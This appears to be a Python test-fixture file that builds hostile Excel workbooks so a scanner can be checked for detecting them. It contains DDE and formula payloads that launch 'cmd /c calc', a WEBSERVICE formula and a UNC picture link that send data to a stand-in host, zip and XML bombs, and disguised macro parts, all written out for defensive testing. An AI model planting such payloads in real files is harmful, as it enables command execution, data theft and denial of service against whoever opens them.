"""The hostile set: what a workbook may carry to be run or followed. It is read all the same, and said."""

from __future__ import annotations

from collections.abc import Mapping

from support.hostile import Row, filled, placed, pressed, zipped
from support.rusak_paket import active_part

_TYPES = "[Content_Types].xml"
_ACTIVE = ("ST-14",)
_MS, _SHEETML = "application/vnd.ms-", "application/vnd.openxmlformats-officedocument.spreadsheetml."
_BOMB = zipped({"a.zip": zipped({"b.bin": bytes(64 << 20)})})
_DDE = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
)


def _carrying(name: str, kind: str, content: bytes = b"") -> bytes:
    """The template with one more part of this content type."""
    members = filled()
    active_part(members, name, kind)
    return zipped(members | ({name: content} if content else {}))


def _comments(count: int, text: str = "a") -> bytes:
    """The template with so many comments."""
    members = filled()
    active_part(members, "xl/comments1.xml", _SHEETML + "comments+xml")
    comments = f'<comment ref="A1"><text><t>{text}</t></text></comment>' * count
    return pressed(
        members | {"xl/comments1.xml": f"<comments><commentList>{comments}</commentList></comments>".encode()}
    )


def _comments_named_often() -> bytes:
    """Content types that name one large part of comments over and over."""
    members = filled()
    active_part(members, "xl/comments1.xml", _SHEETML + "comments+xml")
    named = f'<Override PartName="/xl/comments1.xml" ContentType="{_SHEETML}comments+xml"/>'.encode()
    members[_TYPES] = members[_TYPES].replace(b"</Types>", named * 20_000 + b"</Types>")
    return pressed(members | {"xl/comments1.xml": b"<comments>" + b"<a/>" * 1_000_000 + b"</comments>"})


def _picture_elsewhere() -> bytes:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"'
        b' Target="\\\\192.0.2.1\\a\\b.png" TargetMode="External"/></Relationships>'
    )
    return zipped(filled({"xl/drawings/_rels/drawing1.xml.rels": relation}))


FILES: Mapping[str, Row] = {
    "macros": Row(lambda: _carrying("xl/vbaProject.bin", _MS + "office.vbaProject"), findings=_ACTIVE),
    "macros_named_as_a_picture": Row(lambda: _carrying("xl/media/a.png", _MS + "office.vbaProject"), findings=_ACTIVE),
    "macros_that_are_a_bomb": Row(
        lambda: _carrying("xl/vbaProject.bin", _MS + "office.vbaProject", _BOMB), findings=_ACTIVE
    ),
    "macro_sheet": Row(lambda: _carrying("xl/macrosheets/sheet1.xml", _MS + "excel.macrosheet+xml"), findings=_ACTIVE),
    "program_to_be_asked": Row(
        lambda: _carrying("xl/externalLinks/externalLink1.xml", _SHEETML + "externalLink+xml", _DDE), findings=_ACTIVE
    ),
    "program_asked_by_a_formula": Row(
        lambda: placed("<c r=\"L{}\"><f>cmd|'/c calc'!A0</f><v>1</v></c>"), findings=("ST-14", "ST-19")
    ),
    "web_asked_by_a_formula": Row(
        lambda: placed('<c r="L{}" t="str"><f>_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)</f><v>1</v></c>'),
        findings=("ST-14", "ST-19"),
    ),
    "link_to_another_file": Row(
        lambda: _carrying("xl/externalLinks/externalLink1.xml", _SHEETML + "externalLink+xml"), findings=_ACTIVE
    ),
    "embedded_object": Row(lambda: _carrying("xl/embeddings/oleObject1.bin", _SHEETML + "oleObject"), findings=_ACTIVE),
    "embedded_zip_bomb": Row(
        lambda: _carrying("xl/embeddings/oleObject1.bin", _SHEETML + "oleObject", _BOMB), findings=_ACTIVE
    ),
    "control": Row(lambda: _carrying("xl/activeX/activeX1.xml", _MS + "office.activeX+xml"), findings=_ACTIVE),
    "connection": Row(lambda: _carrying("xl/connections.xml", _SHEETML + "connections+xml"), findings=_ACTIVE),
    "query": Row(lambda: _carrying("xl/queryTables/queryTable1.xml", _SHEETML + "queryTable+xml"), findings=_ACTIVE),
    "pivot_cache": Row(
        lambda: _carrying("xl/pivotCache/pivotCacheDefinition1.xml", _SHEETML + "pivotCacheDefinition+xml"),
        findings=_ACTIVE,
    ),
    "picture_on_another_computer": Row(_picture_elsewhere),
    "drawing_bomb": Row(lambda: pressed(filled({"xl/drawings/drawing1.xml": b"<a>" * 10_000_000}))),
    "a_million_comments": Row(lambda: _comments(900_000), findings=("ST-16",)),
    "note_of_a_mib": Row(lambda: _comments(1, "xy " * 350_000), ("unsafe", "ejaan XML")),
    "comments_named_often": Row(_comments_named_often),
    "hidden_sheet_of_ours": Row(
        lambda: zipped(
            filled(
                {
                    "xl/workbook.xml": filled()["xl/workbook.xml"].replace(
                        b'sheetId="4" r:id', b'sheetId="4" state="veryHidden" r:id'
                    )
                }
            )
        ),
        findings=("ST-11:lembar",),
    ),
}
